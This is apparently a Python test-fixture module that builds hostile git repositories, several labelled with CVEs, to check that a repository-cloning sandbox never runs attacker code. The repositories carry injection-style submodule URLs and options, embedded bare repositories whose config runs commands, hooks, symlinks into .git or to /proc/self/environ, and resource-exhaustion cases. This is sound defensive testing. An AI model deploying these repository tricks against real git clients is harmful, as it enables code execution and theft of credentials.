"""Hostile repositories, each with the trick or the advisory that it stands for. None may get a program of its own run.

Each is a function of `World` that returns the files of the repository's only commit.
"""

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from tests.sidecars.cloner.objects import Bare, Content, Entries, Files, Link, Module, Script, nested


@dataclass(frozen=True)
class World:
    """What an attack can aim at."""

    run: str
    """A command that shows that it ran."""
    inner: str
    """The commit of the public repository `inner`."""
    host: str
    """Where the repository is served, as host:port."""
    other_host: str
    """Another server."""
    fsmonitor_index: bytes
    """An index file with which git asks its file system monitor."""
    bare: Bare
    """The repository itself, for attacks by other things than files."""


Attack = Callable[[World], Files | Entries]
SEPARATORS = ("\n", "\r", "\t", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\x01", "\x7f")


def _quoted(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\t", "\\t")
    return f'"{escaped}"'


def _modules(path: str, url: str, name: str = "evil", more: str = "") -> str:
    # A subsection's name cannot hold a line break; all else is taken as it is.
    return f'[submodule "{name}"]\n\tpath = {_quoted(path)}\n\turl = {_quoted(url)}\n{more}'


def _bare_repository(world: World, more: str = "") -> Files:
    """Return the files of an embedded bare repository, whose configuration names programs (CVE-2022-24765)."""
    config = (
        f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = {_quoted(world.run)}\n"
        f"\thooksPath = .\n\tsshCommand = {_quoted(world.run)}\n\tpager = {_quoted(world.run)}\n"
        f'[filter "lfs"]\n\tprocess = {_quoted(world.run)}\n\tsmudge = {_quoted(world.run)}\n'
        f'[lfs "customtransfer.evil"]\n\tpath = sh\n\targs = -c {_quoted(world.run)}\n'
        f"[lfs]\n\tstandalonetransferagent = evil\n[credential]\n\thelper = {_quoted('!' + world.run)}\n{more}"
    )
    hook = Script(f"#!/bin/sh\n{world.run}\n")
    return {
        "HEAD": "ref: refs/heads/x\n",
        "config": config,
        "index": world.fsmonitor_index,
        "objects": {"info": {"x": ""}},
        "refs": {"heads": {"y": ""}},
        "info": {"attributes": "* filter=lfs\n"},
        **dict.fromkeys(("post-checkout", "post-merge", "reference-transaction", "fsmonitor-watchman"), hook),
    }


def _path(path: str) -> Attack:
    """A submodule at `path`, beside a folder of that name up to its separator that is a repository of its own."""

    def files(world: World) -> Files:
        made: Files = {
            ".gitmodules": _modules(path, f"https://{world.host}/inner.git"),
            "evil": _bare_repository(world),
        }
        return {**made, **nested(path.strip("/") or "x", Module(world.inner))}

    return files


def _name(name: str) -> Attack:
    """A submodule of this name: git keeps its repository below .git/modules/NAME (CVE-2018-11235)."""
    return lambda world: {
        ".gitmodules": _modules("sub", f"https://{world.host}/inner.git", name),
        "sub": Module(world.inner),
        "hooks": {"post-checkout": Script(f"#!/bin/sh\n{world.run}\n")},
    }


def _url(url: str, more: str = "") -> Attack:
    return lambda world: {
        ".gitmodules": _modules("sub", url.format(w=world), more=more.format(w=world)),
        "sub": Module(world.inner),
        "payload": Script(f"#!/bin/sh\n{world.run}\n"),
    }


def _tree(path: str) -> Attack:
    """A tree with git's own folder, or a path out of the work tree, under this name (CVE-2014-9390, CVE-2019-1352)."""

    def files(world: World) -> Files:
        hook = {"post-checkout": Script(f"#!/bin/sh\n{world.run}\n")}
        return {path: {"hooks": hook, "config": f"[core]\n\tfsmonitor = {_quoted(world.run)}\n"}, "a": "a"}

    return files


def _lfs(config: str, **more: Content) -> Attack:
    """A repository with a large file and a hostile `.lfsconfig`."""
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 12\n"
    return lambda world: {
        ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
        "data.bin": pointer.format(oid="ab" * 32),
        **({".lfsconfig": config.format(w=world)} if config else {}),
        **more,
    }


def _attributes(text: str, **more: Content) -> Attack:
    return lambda world: {
        ".gitattributes": text,
        "a.x": "a\n" * 10,
        **more,
        "run.sh": Script(f"#!/bin/sh\n{world.run}\n"),
    }


def _refs(world: World) -> Files:
    commit = world.bare.publish({"a": "a"})
    lines = [f"{commit} refs/heads/{'x' * 150}-{number}\n" for number in range(3000)]
    (world.bare.place / "packed-refs").write_text(
        "# pack-refs with: peeled fully-peeled sorted \n" + "".join(sorted(lines))
    )
    return {"a": "a"}


def _branch(name: str) -> Attack:
    def files(world: World) -> Files:
        world.bare.publish({"a": "a"}, name)
        (world.bare.place / "HEAD").write_text(f"ref: refs/heads/{name}\n")
        return {"a": "a"}

    return files


def _symlink_into_git(world: World) -> Entries:
    """A link and a folder of one name, apart by case or not at all (CVE-2021-21300, CVE-2024-32002)."""
    hook = {"post-checkout": Script(f"#!/bin/sh\n{world.run}\n")}
    return [("A", {"hooks": hook}), ("a", Link(".git")), ("b", Link(".git/hooks")), ("b", hook)]


def _deep(world: World) -> Files:
    made: Content = "a"
    for _ in range(300):
        made = {"d": made}
    return {"d": made, "x": world.run}


def _own_submodule(world: World) -> Files:
    """Each level names a further one, without end."""
    url = f"https://{world.host}/{world.bare.place.name}"
    first = world.bare.publish({".gitmodules": _modules("sub", url), "sub": Module(world.inner)})
    for _ in range(15):
        first = world.bare.publish({".gitmodules": _modules("sub", url), "sub": Module(first)})
    return {".gitmodules": _modules("sub", url), "sub": Module(first)}


def _many_submodules(world: World) -> Files:
    texts = [_modules(f"s{n}", f"https://{world.host}/inner.git", f"n{n}") for n in range(2000)]
    return {".gitmodules": "".join(texts), **{f"s{n}": Module(world.inner) for n in range(2000)}}


def _all() -> Iterator[tuple[str, Attack]]:
    for sign in SEPARATORS:
        yield f"path of a submodule with U+{ord(sign):04X}", _path(f"evil{sign}")
        yield f"name of a submodule with U+{ord(sign):04X}", _name(f"evil{sign if sign != chr(10) else 'x'}")
    for path in (
        "..",
        "../x",
        "a/../../x",
        "/tmp/x",
        ".git",
        ".GIT",
        ".git/hooks",
        "a/.git",
        "git~1",
        ".git ",
        "-u./x",
    ):
        yield f"path of a submodule {path}", _path(path)
    for name in ("../../hooks", "..", ".git/x", "/abs", "a/../../b", "x/hooks/../../y", "modules/../../config"):
        yield f"name of a submodule {name}", _name(name)
    urls = {
        "upload-pack, CVE-2018-17456": "-u./payload",
        "option": "--upload-pack=./payload",
        "helper": "ext::sh -c {w.run}",
        "file, CVE-2022-39253": "file:///etc",
        "local path": "/etc",
        "ProxyCommand, CVE-2017-1000117": "ssh://-oProxyCommand={w.run}/x",
        "ProxyCommand in short form": "-oProxyCommand={w.run}:x",
        "encoded line break, CVE-2020-5260": "https://{w.host}%0ahost={w.other_host}/inner.git",
        "no host, CVE-2020-11008": "https:///inner.git",
        "carriage return, CVE-2024-52006": "https://{w.other_host}%0d/inner.git",
        "control sequence, CVE-2024-50349": "https://{w.other_host}%1b[2J/inner.git",
        "another path of the host": "https://{w.host}/sessions/mallory/x.git",
        "another host": "https://{w.other_host}/inner.git",
        "user of another": "https://oauth2@{w.other_host}/inner.git",
        "clear text": "http://{w.host}/inner.git",
        "relative": "../../../../x.git",
        "empty": "",
    }
    for title, url in urls.items():
        yield f"address of a submodule: {title}", _url(url)
    yield "update command, CVE-2019-19604", _url("https://{w.host}/inner.git", "\tupdate = !{w.run}\n")
    yield "update command in capitals", _url("https://{w.host}/inner.git", "\tUPDATE = !{w.run}\n")
    yield "branch that is an option", _url("https://{w.host}/inner.git", "\tbranch = --upload-pack={w.run}\n")
    yield "settings beside the submodule", _url("https://{w.host}/inner.git", "[core]\n\tfsmonitor = {w.run}\n")
    names = (
        ".git",
        ".GIT",
        ".gIt",
        ".g\u200cit",
        ".git\u200b",
        "git~1",
        "GIT~1",
        ".git ",
        ".git.",
        ".git::$INDEX_ALLOCATION",
    )
    for name in (*names, "..", ".", "../x", "/tmp/x", "a/b", ""):
        yield f"tree with {name!r}", _tree(name)
    yield "links into git's folder, CVE-2021-21300 and CVE-2024-32002", _symlink_into_git
    yield "embedded bare repository", lambda world: {"evil": _bare_repository(world)}
    yield "the tree is a bare repository itself", lambda world: dict(_bare_repository(world))
    yield (
        "embedded bare repository with an include",
        lambda world: {
            "evil": _bare_repository(world, "[include]\n\tpath = ../more\n"),
            "more": f"[alias]\n\tls-files = !{world.run}\n",
        },
    )
    for name in (".gitmodules", ".gitattributes", ".gitignore", ".lfsconfig", ".mailmap"):
        yield f"{name} is a link", lambda _, name=name: {name: Link("/proc/self/environ"), "a": "a"}  # type: ignore[misc]
    yield "link to an endless file", lambda _: {".gitattributes": Link("/dev/zero"), "a": "a"}
    yield "link out of the work tree", lambda _: {"etc": Link("/etc"), "home": Link("../../.."), "a": "a"}
    yield "unknown filter", _attributes("* filter=evil diff=evil merge=evil\n")
    yield "macro", _attributes("[attr]evil filter=lfs\n* evil\n")
    yield "encoding", _attributes("* working-tree-encoding=UTF-7\n")
    yield "one long line, CVE-2022-23521", _attributes("* " + "a" * 2_000_000 + "\n")
    yield "many attributes, CVE-2022-23521", _attributes("".join(f"*.x a{n}\n" for n in range(50_000)))
    yield "large file: another path of the host", _lfs("[lfs]\n\turl = https://{w.host}/sessions/mallory/lfs\n")
    yield "large file: another host", _lfs("[lfs]\n\turl = https://{w.other_host}/lfs\n")
    yield "large file: address of the remote", _lfs('[remote "origin"]\n\tlfsurl = https://{w.other_host}/lfs\n')
    yield (
        "large file: transfer agent",
        _lfs(
            '[lfs]\n\tstandalonetransferagent = evil\n[lfs "customtransfer.evil"]\n\tpath = sh\n\targs = -c "{w.run}"\n'
        ),
    )
    yield (
        "large file: extension",
        _lfs('[lfs "extension.evil"]\n\tsmudge = {w.run}\n\tclean = {w.run}\n\tpriority = 0\n'),
    )
    yield "large file: local", _lfs("[lfs]\n\turl = file:///etc\n")
    yield "large file: ssh option", _lfs("[lfs]\n\turl = ssh://-oProxyCommand={w.run}/x\n")
    yield "large file: encoded line break, CVE-2024-53263", _lfs("[lfs]\n\turl = https://{w.other_host}%0d%0a/lfs\n")
    yield "large file: credential helper", _lfs("[credential]\n\thelper = !{w.run}\n[core]\n\taskPass = {w.run}\n")
    yield (
        "large file: through a link, CVE-2025-26625",
        lambda _: {
            ".gitattributes": "*.bin filter=lfs\n",
            "data.bin": Link("/tmp/amalthea-escaped"),
        },
    )
    yield (
        "large file: pointer to a path",
        lambda _: {
            ".gitattributes": "*.bin filter=lfs\n",
            "data.bin": "version https://git-lfs.github.com/spec/v1\noid sha256:../../../x\nsize 1\n",
        },
    )
    yield "many branches with long names", _refs
    for name in ("-oProxyCommand=x", "--upload-pack=x", "HEAD", "\x1b[31mred"[1:], "refs/heads/x"):
        yield f"default branch {name}", _branch(name)
    yield "folders without end", _deep
    yield "its own submodule", _own_submodule
    yield "two thousand submodules", _many_submodules
    yield "a link to no submodule", lambda world: {"sub": Module("ab" * 20), "x": world.run}
    yield (
        "a submodule whose commit is nowhere",
        lambda world: {
            ".gitmodules": _modules("sub", f"https://{world.host}/inner.git"),
            "sub": Module("ab" * 20),
        },
    )
    yield "a large empty file", lambda _: {"zeros": b"\0" * 60_000_000}


ATTACKS: Mapping[str, Attack] = dict(_all())
